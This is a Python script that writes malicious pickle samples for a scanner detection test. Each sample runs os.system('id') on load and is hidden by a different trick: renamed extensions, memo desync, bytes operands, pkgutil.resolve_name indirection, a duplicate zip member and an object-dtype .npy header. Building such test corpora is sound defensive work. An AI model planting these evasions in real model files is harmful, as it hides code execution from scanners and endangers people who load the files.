#!/usr/bin/env python3
"""Write evasion samples (stdlib only) for the detection differential in run.sh.

Usage: make_evasions.py OUTDIR
"""
import io
import os
import struct
import sys
import warnings
import zipfile

out = sys.argv[1]
os.makedirs(os.path.join(out, "dir"), exist_ok=True)


def put(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


evil = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
put("renamed.pt", evil)
put("dir/model.weights", evil)
# PUT 1 'collections'; MEMOIZE stores 'os' under len(memo) == 1, overwriting it; GET 1 -> 'os'.
put("memo_desync.pkl", b"\x80\x04\x8c\x0bcollectionsq\x010\x8c\x02os\x940h\x01\x8c\x06system\x93\x8c\x02id\x85R.")
put("numpy_build_gadget.pkl", b"\x80\x04\x8c\x05numpy\x8c\x05dtype\x93}\x8c\x05names\x8c\x01xsb.")
magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"
put("legacy_4th_pickle.bin", magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00." + evil + b"\x80\x02]q\x00." + b"\0" * 8)
put("bytes_operand.pkl", b"\x80\x04C\x02os\x8c\x06system\x93\x8c\x02id\x85R.")
put("resolve_name.pkl", b"\x80\x04\x8c\x07pkgutil\x8c\x0cresolve_name\x93\x8c\tos:system\x85R\x8c\x02id\x85R.")
buf = io.BytesIO()
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", b"\x80\x02}q\x00.")
        z.writestr("archive/data.pkl", evil)
put("duplicate_member.pt", buf.getvalue())
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr += " " * (64 - (10 + len(hdr) + 1) % 64) + "\n"
put("dir/object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + evil)
